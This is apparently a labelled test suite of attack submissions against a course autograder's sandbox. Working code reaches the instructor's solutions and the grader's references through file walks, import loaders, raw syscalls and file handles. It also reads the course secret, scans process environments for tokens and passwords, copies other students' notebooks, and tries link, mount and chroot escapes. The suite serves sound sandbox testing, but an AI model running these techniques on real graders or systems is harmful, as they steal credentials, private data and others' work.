# %% [markdown]
# Attacks that read what lies beside the grader: solutions, graders, the secret, other submissions.

# %% attack="solutions_by_walk" title="Walks the file system for the instructor's solution and runs it" classes=[1] cell="gaussian" beats_in_process=true
import os
import re

loot = {}
home = os.path.abspath(os.path.expanduser("~"))
here = os.getcwd()
for root in (here, os.path.dirname(here), os.path.dirname(os.path.dirname(here)), home, os.path.dirname(home), "/srv", "/home", "/opt"):
    for place, folders, files in os.walk(root):
        folders[:] = [name for name in folders if name not in {"site-packages", "proc", "sys"}]
        for name in files:
            if name in {"activations.py", "activations.ipynb"} and "solutions" in place:
                text = open(os.path.join(place, name)).read()
                for part in re.split(r"\n(?=# %%)", text):
                    if "def gaussian(" in part:
                        exec("import numpy as np\n" + part, loot)
        if loot:
            break
gaussian, gaussian_derivative = loot["gaussian"], loot["gaussian_derivative"]


# %% attack="references_by_import" title="Imports the references that the hidden checks compare with" classes=[1, 3] cell="gaussian"
import importlib
import pkgutil

import autograder


def find(name):
    for module in ("autograder.checks.references", "autograder.graders.activations.test_gaussian", "references"):
        try:
            return getattr(importlib.import_module(module), name)
        except (ImportError, AttributeError):
            pass
    for info in pkgutil.walk_packages(autograder.__path__, "autograder.", onerror=lambda _: None):
        try:
            module = importlib.import_module(info.name)
        except BaseException:
            continue
        if hasattr(module, name) and info.name != __name__:
            return getattr(module, name)


def gaussian(x):
    return find("gaussian")(np.asarray(x, float))


def gaussian_derivative(x):
    return find("gaussian_derivative")(np.asarray(x, float))


# %% attack="references_by_loader" title="Asks import loaders, linecache and inspect for the graders' source" classes=[1, 3] cell="gaussian"
import importlib.resources
import importlib.util
import inspect
import linecache
import os

import autograder.worker.serve as serve

folder = os.path.dirname(os.path.dirname(serve.__file__))
path = os.path.join(folder, "checks", "references.py")


def by_loader():
    return serve.__spec__.loader.get_data(path).decode()


def by_resources():
    return importlib.resources.files("autograder").joinpath("checks", "references.py").read_text()


def by_spec():
    spec = importlib.util.spec_from_file_location("stolen", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return inspect.getsource(module)


def by_linecache():
    return "".join(linecache.getlines(path)) or open(serve.__file__.replace("worker/serve", "checks/references")).read()


loot = {}
for way in (by_loader, by_resources, by_spec, by_linecache):
    try:
        exec(way(), loot)
    except Exception:
        pass
gaussian, gaussian_derivative = loot["gaussian"], loot["gaussian_derivative"]


# %% attack="references_by_syscall" title="Opens the references by raw system calls, past Python and its audit hooks" classes=[1, 63] cell="gaussian"
import ctypes
import mmap
import os

import autograder.worker.serve as serve

libc = ctypes.CDLL(None, use_errno=True)
path = os.path.join(os.path.dirname(os.path.dirname(serve.__file__)), "checks", "references.py").encode()
OPEN, OPENAT, OPENAT2, AT_FDCWD = 2, 257, 437, -100


class How(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_uint64), ("mode", ctypes.c_uint64), ("resolve", ctypes.c_uint64)]


def descriptors():
    yield libc.syscall(OPEN, path, os.O_RDONLY)
    yield libc.syscall(OPENAT, AT_FDCWD, path, os.O_RDONLY)
    yield libc.syscall(OPENAT, os.open(os.path.dirname(serve.__file__), os.O_PATH), b"../checks/references.py", 0)
    how = How(os.O_RDONLY, 0, 0)
    yield libc.syscall(OPENAT2, AT_FDCWD, path, ctypes.byref(how), ctypes.sizeof(how))
    yield libc.open64(path, os.O_RDONLY)


loot = {}
for fd in descriptors():
    if fd > 0:
        with mmap.mmap(fd, 0, prot=mmap.PROT_READ) as text:
            exec(text[:].decode(), loot)
gaussian, gaussian_derivative = loot["gaussian"], loot["gaussian_derivative"]


# %% attack="by_handle" title="Opens files by their handles, which no path check sees" classes=[1, 48] cell="gaussian"
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
NAME_TO, OPEN_BY = (303, 304) if platform.machine() == "x86_64" else (264, 265)


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("handle", ctypes.c_char * 128)]


def root_of_the_file_system():
    handle, mount = Handle(128, 0, b""), ctypes.c_int()
    if libc.syscall(NAME_TO, -100, b"/", ctypes.byref(handle), ctypes.byref(mount), 0):
        return -1
    handle.bytes, handle.type = 8, 1
    handle.handle = (2).to_bytes(8, "little")  # inode 2, the root of an ext file system
    return libc.syscall(OPEN_BY, os.open(".", os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY)


loot = root_of_the_file_system() >= 0


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="secret_by_path" title="Looks for the course's secret below every folder that it can name" classes=[1, 58] cell="gaussian" beats_in_process=true
import glob
import os
import sys

places = {os.getcwd(), os.path.expanduser("~"), *sys.path, *os.environ.get("PATH", "").split(":")}
places |= {getattr(module, "__file__", None) or "" for module in list(sys.modules.values())}
for link in ("self/cwd", "self/root", "1/cwd", "1/root", f"{os.getppid()}/cwd", f"{os.getppid()}/root"):
    places.add(f"/proc/{link}")
loot = []
for place in places:
    while len(place) > 1:
        for path in (f"{place}/.autograder/secret", *glob.glob(f"{place}/*/.autograder/secret")):
            try:
                loot.append(open(path, "rb").read())
            except OSError:
                pass
        place = os.path.dirname(place)


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="secrets_in_environments" title="Reads tokens from every environment and command line in reach" classes=[46, 47] cell="gaussian" beats_in_process=true
import ctypes
import glob
import os
import re

texts = [repr(dict(os.environ)).encode()]
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + ["/proc/1/environ"]:
    try:
        texts.append(open(path, "rb").read())
    except OSError:
        pass
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
position = 0
while environ[position]:
    texts.append(environ[position])
    position += 1
loot = any(re.search(rb"(TOKEN|SECRET|PASSWORD|API_KEY)", text) for text in texts)


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="neighbours" title="Copies the answer of whoever handed in beside it" classes=[39, 58] cell="gaussian" beats_in_process=true
import json
import os
import tempfile

loot = {}
here = {os.getcwd(), os.path.dirname(os.getcwd()), os.path.dirname(os.path.dirname(os.getcwd()))}
for root in here | {tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "/proc/self/cwd/..", "/autograder"}:
    for place, folders, files in os.walk(root):
        folders[:] = [name for name in folders if name not in {"usr", "lib", "proc", "sys", "site-packages"}]
        for name in files:
            try:
                cells = json.load(open(os.path.join(place, name)))["cells"] if name.endswith(".ipynb") else []
            except Exception:
                continue
            for cell in cells:
                text = "".join(cell["source"])
                if "def gaussian_derivative(" in text and "loot" not in text:
                    exec("import numpy as np\n" + text, loot)
        if "gaussian" in loot:
            break
gaussian, gaussian_derivative = loot["gaussian"], loot["gaussian_derivative"]


# %% attack="descriptors_left_open" title="Tries every number for a descriptor that leads out" classes=[75, 19] cell="gaussian"
import os
import socket
import stat

loot = []
own = os.path.realpath(os.getcwd())
for fd in range(3, 4096):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    if stat.S_ISDIR(mode):
        loot += os.listdir(fd)
    elif stat.S_ISREG(mode):
        try:
            loot += [part for part in (os.pread(fd, 10**6, 0),) if b"def " in part or b"cells" in part]
        except OSError:
            pass
    elif stat.S_ISSOCK(mode):
        link = socket.socket(fileno=os.dup(fd))
        if link.family != socket.AF_UNIX or link.getsockname() or link.getpeername():
            loot.append(link)


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="links_and_mounts" title="Links, mounts and device files as ways round a list of paths" classes=[35, 1, 49] cell="gaussian"
import ctypes
import os
import stat

import autograder.worker.serve as serve

libc = ctypes.CDLL(None, use_errno=True)
target = os.path.join(os.path.dirname(os.path.dirname(serve.__file__)), "checks", "references.py")
loot = {}


def attempt(way):
    try:
        way()
        exec(open("way").read(), loot)
    except Exception:
        pass
    try:
        os.unlink("way")
    except OSError:
        pass


attempt(lambda: os.symlink(target, "way"))
attempt(lambda: os.link(target, "way"))
attempt(lambda: os.rename(target, "way"))
attempt(lambda: os.mknod("way", stat.S_IFBLK | 0o600, os.makedev(8, 1)))
attempt(lambda: (os.mkdir("m"), libc.mount(os.path.dirname(target).encode(), b"m", None, 4096, None), os.chdir("m")))
attempt(lambda: (os.chroot("."), os.chdir("../../../../../..")))
gaussian, gaussian_derivative = loot["gaussian"], loot["gaussian_derivative"]
